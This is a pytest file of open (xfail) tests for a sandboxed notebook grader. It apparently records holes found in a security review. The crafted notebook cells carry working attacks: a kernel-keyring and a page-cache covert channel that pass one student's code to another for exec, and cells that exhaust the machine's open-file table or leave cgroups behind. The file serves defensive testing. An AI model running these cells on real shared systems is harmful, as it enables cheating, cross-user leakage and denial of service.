"""Attacks on the sandboxed grader found by a third review, after the cgroups were added: each
test grades crafted notebooks in the default (sandboxed) mode, and each is open (``xfail``).

- The kernel's key store (``add_key``/``keyctl``) is not namespaced by bubblewrap, and the
  sandbox's root is the machine's root (uid 0), which owns the machine's root user keyring
  (``_uid.0``, permissions ``1f3f0000``: the user may read, write and link). A cell adds a key,
  opens its permissions, and links it into every ``_uid`` keyring listed in ``/proc/keys``: the
  key outlives the sandbox (and the grader), and the next submission finds it in ``/proc/keys``
  and reads it. One submission can so hand its solution to another (or leave anything up to
  root's key quota in the machine's kernel memory, outside any cgroup's lifetime).
- The machine's table of open files (``fs.file-max``, sized from its memory) is one for all; the
  sandbox bounds its tasks (``TASKS_LIMIT``) and memory, not its files, and keeps the grader's
  ``RLIMIT_NOFILE``. A struct file costs a few hundred bytes, so well inside 4 GiB one submission
  holds more than half of the machine's table (all of it, with a few more children): while it
  runs, every process of the machine without ``CAP_SYS_ADMIN`` (a grader run as an ordinary
  user, other graders, services) gets ``ENFILE`` ("Too many open files in system").
- The grader removes a sandbox's cgroups for one second after killing it, then gives up
  silently. Processes that take longer to end (hundreds of children with tens of thousands of
  mappings each: some five seconds) leave the cgroups behind for good, one set per such
  submission, and are still ending while the next submission runs.
- The page cache of the files the sandbox shows read-only (the environment) is the machine's: a
  cell drops a large file's pages (``posix_fadvise(DONTNEED)``, allowed on any file one can
  read) and reads back one page per bit of a message; the next submission maps the file and
  asks ``mincore`` which pages are cached, and gets the message (here: a solution). Blocking
  keys does not close this one; only not sharing the page cache would (a copy of the
  environment per sandbox, or accepting it as a limit: two students who collude).
"""

import ctypes
import os
import secrets
import time

import nbformat
import pytest
from test_grade_attacks import chapter, graded

from igrlib.coursework import grade as grade_module
from igrlib.coursework.grade import grade, reference_chapters

pytestmark = [pytest.mark.usefixtures("sandbox"), pytest.mark.coursework]  # seconds each: make coursework

SQUARE = "def square(x):\n    return x ** 2"


def _forget_keys(description):
    """Invalidate, from the test's own process, every key of the machine named ``description``."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/keys") as fh:
        for line in fh:
            fields = line.split()
            if fields and fields[-2].rstrip(":") == description:
                libc.syscall(250, 21, int(fields[0], 16))  # keyctl(KEYCTL_INVALIDATE, id)


@pytest.mark.xfail(strict=True, reason="open: the kernel keyring is shared with the machine's root (no seccomp)")
def test_a_submission_cannot_leave_a_key_for_the_next_one(tmp_path):
    """Alice's notebook (solved) stores its solution in a key linked into the machine's root user
    keyring; Mallory's notebook (unsolved: its answer cell only reads keys) is graded next and
    passes with Alice's code."""
    description = "igr-" + secrets.token_hex(4)
    leave = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"data = {SQUARE!r}.encode()\n"
        f"key = libc.syscall(248, b'user', b{description!r}, data, len(data), -3)  # add_key to the session keyring\n"
        "libc.syscall(250, 5, key, 0x3F3F3F3F)  # KEYCTL_SETPERM: anyone may read it\n"
        "for line in open('/proc/keys'):\n"
        "    if line.split()[-2].startswith('_uid'):\n"
        "        libc.syscall(250, 8, key, int(line.split()[0], 16))  # KEYCTL_LINK into a user keyring\n"
    )
    take = (
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for line in open('/proc/keys'):\n"
        f"    if line.split()[-2].rstrip(':') == {description!r}:\n"
        "        buffer = ctypes.create_string_buffer(4096)\n"
        "        size = libc.syscall(250, 11, int(line.split()[0], 16), buffer, 4096)  # KEYCTL_READ\n"
        "        exec(buffer.raw[:size].decode())\n"
    )
    reference = tmp_path / "reference"
    reference.mkdir()
    nbformat.write(chapter("demo-square", "square", "x"), reference / "ch.ipynb")
    alice = tmp_path / "alice" / "ch.ipynb"
    mallory = tmp_path / "mallory" / "ch.ipynb"
    for path in (alice, mallory):
        path.parent.mkdir()
    nbformat.write(chapter("demo-square", "square", "x", SQUARE, leave), alice)
    nbformat.write(chapter("demo-square", "square", "x", take), mallory)
    chapters = reference_chapters(reference)
    try:
        assert grade(alice, chapters=chapters, timeout=30)[0].status == "PASS"  # the honest answer passes
        rows = grade(mallory, chapters=chapters, timeout=30)
    finally:
        _forget_keys(description)
    assert rows[0].exercise == "demo-square", rows
    assert rows[0].status != "PASS", rows


@pytest.mark.xfail(strict=True, reason="open: the machine's file table is not bounded per sandbox")
def test_a_submission_cannot_hold_half_of_the_machines_open_files(tmp_path):
    """A cell forks children that open ``/dev/null`` up to their file limit (raised to the hard
    limit the grader leaves them) until they hold one more than half of ``fs.file-max``; it stops
    there (the test leaves the other half to the machine) and says so."""
    hold = (
        "import os, resource, time\n"
        "file_max = int(open('/proc/sys/fs/file-max').read())\n"
        "hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]\n"
        "share = max(1, min(hard, 2**20) - 64)\n"
        "target, held, children = file_max // 2 + 1, 0, []\n"
        "while held < target:\n"
        "    want = min(share, target - held)\n"
        "    r, w = os.pipe()\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        n = 0\n"
        "        try:\n"
        "            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 2**20), min(hard, 2**20)))\n"
        "            for n in range(1, want + 1):\n"
        "                os.open('/dev/null', os.O_RDONLY)\n"
        "        except OSError:\n"
        "            n -= 1\n"
        "        os.write(w, str(n).encode().ljust(16))\n"
        "        time.sleep(60)\n"
        "        os._exit(0)\n"
        "    children.append(pid)\n"
        "    got = int(os.read(r, 16))\n"
        "    os.close(r), os.close(w)\n"
        "    held += got\n"
        "    if got < want:\n"
        "        break\n"
        "for pid in children:\n"
        "    os.kill(pid, 9)\n"
        "    os.waitpid(pid, 0)\n"
        "if held >= target:\n"
        "    raise RuntimeError(f'held {held} open files of the machine table of {file_max}')\n"
    )
    rows = graded(tmp_path, "demo-square", "square", "x", SQUARE, hold, timeout=60)
    assert rows[0].status == "PASS", rows  # the honest answer still passes
    assert not any("open files of the machine" in row.message for row in rows), rows


@pytest.mark.xfail(strict=True, reason="open: cgroups of a sandbox slow to end are left behind")
def test_a_submission_slow_to_end_leaves_no_cgroup_behind(tmp_path, monkeypatch, cgroups):
    """A cell starts 400 children with 20,000 small mappings each (a few GiB of the kernel's
    memory, inside the sandbox's limit) and returns; the kernel is killed after the check, and
    its cgroups must be gone when ``grade`` returns."""
    made = []

    def recorded():
        folders = real()
        made.extend(folders)
        return folders

    real = grade_module._cgroups
    monkeypatch.setattr(grade_module, "_cgroups", recorded)
    slow = (
        "import mmap, os, time\n"
        "flags, ready = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, []\n"
        "for _ in range(400):\n"
        "    r, w = os.pipe()\n"
        "    if os.fork() == 0:\n"
        "        maps = [mmap.mmap(-1, 4096, flags=flags, prot=mmap.PROT_READ | (j % 2) * mmap.PROT_WRITE)\n"
        "                for j in range(20000)]\n"
        "        os.write(w, b'1')\n"
        "        time.sleep(600)\n"
        "    ready.append(r)\n"
        "for r in ready:\n"
        "    os.read(r, 1)\n"
    )
    try:
        rows = graded(tmp_path, "demo-square", "square", "x", SQUARE, slow, timeout=120)
        left = [folder for folder in made if os.path.exists(folder)]
    finally:
        for folder in made:  # what the grader left: removed once its processes are gone
            for _ in range(300):
                try:
                    os.rmdir(folder)
                    break
                except FileNotFoundError:
                    break
                except OSError:
                    time.sleep(0.1)
    assert rows[0].status == "PASS", rows  # the honest answer still passes
    assert made and not left, (left, rows)


CARRIER = (
    "import os, sys\n"
    "def carrier():\n"
    "    # the largest file (4 MiB or more) of the environment that no process maps: not a library\n"
    "    found = []\n"
    "    for root, dirs, files in os.walk(sys.prefix):\n"
    "        for name in files:\n"
    "            path = os.path.join(root, name)\n"
    "            if name.endswith(('.so', '.py', '.pyc')) or '.so.' in name or os.path.islink(path):\n"
    "                continue\n"
    "            size = os.stat(path).st_size\n"
    "            if size >= 2**22:\n"
    "                found.append((-size, path))\n"
    "    return min(found)[1]\n"
    "PAGE, BYTES = 4096, 64\n"
)


@pytest.mark.xfail(strict=True, reason="open: the page cache of the environment is shared between sandboxes")
def test_a_submission_cannot_pass_its_solution_through_the_page_cache(tmp_path):
    """Alice's notebook (solved) writes its solution, one bit per page, into the page cache of a
    large file of the environment; Mallory's (unsolved: its answer cell reads the cache with
    ``mincore``) is graded next and passes with Alice's code."""
    send = CARRIER + (
        f"message = {SQUARE!r}.encode().ljust(BYTES, bytes(1))\n"
        "fd = os.open(carrier(), os.O_RDONLY)\n"
        "os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)  # no page of it cached\n"
        "os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # no read-ahead\n"
        "for i in range(8 * BYTES):\n"
        "    if message[i // 8] >> (i % 8) & 1:\n"
        "        os.pread(fd, 1, (8 * i + 4) * PAGE)\n"
    )
    take = CARRIER + (
        "import ctypes, mmap\n"
        "import numpy as np\n"
        "fd = os.open(carrier(), os.O_RDONLY)\n"
        "size = os.fstat(fd).st_size\n"
        "pages = np.frombuffer(mmap.mmap(fd, size, prot=mmap.PROT_READ), dtype=np.uint8)\n"
        "cached = (ctypes.c_ubyte * ((size + PAGE - 1) // PAGE))()\n"
        "ctypes.CDLL(None).mincore(ctypes.c_void_p(pages.ctypes.data), ctypes.c_size_t(size), cached)\n"
        "bits = [cached[8 * i + 4] & 1 for i in range(8 * BYTES)]\n"
        "message = bytes(sum(bits[8 * j + k] << k for k in range(8)) for j in range(BYTES))\n"
        "exec(message.rstrip(bytes(1)).decode('ascii', 'replace'))\n"
    )
    reference = tmp_path / "reference"
    reference.mkdir()
    nbformat.write(chapter("demo-square", "square", "x"), reference / "ch.ipynb")
    alice = tmp_path / "alice" / "ch.ipynb"
    mallory = tmp_path / "mallory" / "ch.ipynb"
    for path in (alice, mallory):
        path.parent.mkdir()
    nbformat.write(chapter("demo-square", "square", "x", SQUARE, send), alice)
    nbformat.write(chapter("demo-square", "square", "x", take), mallory)
    chapters = reference_chapters(reference)
    assert grade(alice, chapters=chapters, timeout=30)[0].status == "PASS"  # the honest answer passes
    rows = grade(mallory, chapters=chapters, timeout=30)
    assert rows[0].exercise == "demo-square", rows
    assert rows[0].status != "PASS", rows
